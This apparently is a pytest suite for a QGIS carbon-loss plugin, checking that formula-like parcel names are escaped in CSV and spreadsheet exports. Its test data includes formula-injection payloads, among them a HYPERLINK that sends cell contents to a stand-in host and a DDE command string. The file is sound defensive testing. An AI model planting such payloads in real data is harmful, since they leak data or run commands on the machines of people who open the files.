"""Names of parcels that look like formulas: harmless in what spreadsheets open, as they are elsewhere."""

from __future__ import annotations

import csv
import json

import numpy as np
import pytest
import rasters_kit as kit
from osgeo import ogr
from qgis.core import QgsVectorLayer

from terrestrial_carbon.plugin.processing.check_parcels import CheckParcels
from terrestrial_carbon.plugin.processing.losses.loss_by_year import LossByYear
from terrestrial_carbon.plugin.processing.parcel_statistics import ParcelStatistics

FORMULA = '=HYPERLINK("http://example.org/"&A1,"Park")'
NAMES = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "Old Park", "Park = old")
SHAPE = (10, 6)


@pytest.fixture
def layer(qgis_app):
    wkts = (kit.box(column, 0, 1, 10) for column in range(len(NAMES)))
    return kit.parcels(*((wkt, [name]) for wkt, name in zip(wkts, NAMES)), fields="&field=title:string")


def losses(layer, tmp_path, target):
    events = kit.raster(tmp_path / "loss.tif", np.full(SHAPE, 20, np.uint8))
    results, _ = kit.run(
        LossByYear, INPUT=layer, ID_FIELD="title", EVENTS=[events], OUTPUT=str(target),
        ENCODING=json.dumps({"scheme": "years"}),
    )  # fmt: skip
    return results["OUTPUT"]


def texts(path):
    with open(path, encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_a_csv_of_losses_has_no_formula(layer, tmp_path):
    losses(layer, tmp_path, tmp_path / "losses.csv")
    cells = texts(tmp_path / "losses.csv")
    assert "'" + FORMULA in cells and "Old Park" in cells and "Park = old" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or cell == "-2+3"]


@pytest.mark.parametrize("ending", ["xlsx", "ods"])
def test_other_spreadsheets_have_none_either(layer, tmp_path, ending):
    losses(layer, tmp_path, tmp_path / f"losses.{ending}")
    dataset = ogr.Open(str(tmp_path / f"losses.{ending}"))
    found = {feature.GetField(0) for feature in dataset.GetLayer(0)}
    assert {"'" + FORMULA, "'@SUM(A1)", "Old Park"} <= found and FORMULA not in found


def test_a_geopackage_has_the_names_as_they_are(layer, tmp_path):
    losses(layer, tmp_path, tmp_path / "losses.gpkg")
    found = QgsVectorLayer(str(tmp_path / "losses.gpkg"), "losses", "ogr")
    assert {row["parcel"] for row in found.getFeatures()} == set(NAMES)


def test_copied_fields_of_parcels_are_harmless(layer, tmp_path):
    """Algorithms that write the parcels themselves go the same way."""
    density = kit.raster(tmp_path / "carbon.tif", np.full(SHAPE, 5, np.float32))
    kit.run(ParcelStatistics, INPUT=layer, RASTERS=[density], OUTPUT=str(tmp_path / "parcels.csv"))
    kit.run(CheckParcels, INPUT=layer, ID_FIELD="title", OUTPUT=str(tmp_path / "checks.csv"))
    assert "'" + FORMULA in texts(tmp_path / "parcels.csv")
    for name in ("parcels", "checks"):
        assert not [cell for cell in texts(tmp_path / f"{name}.csv") if cell.startswith(("=", "+", "@"))]
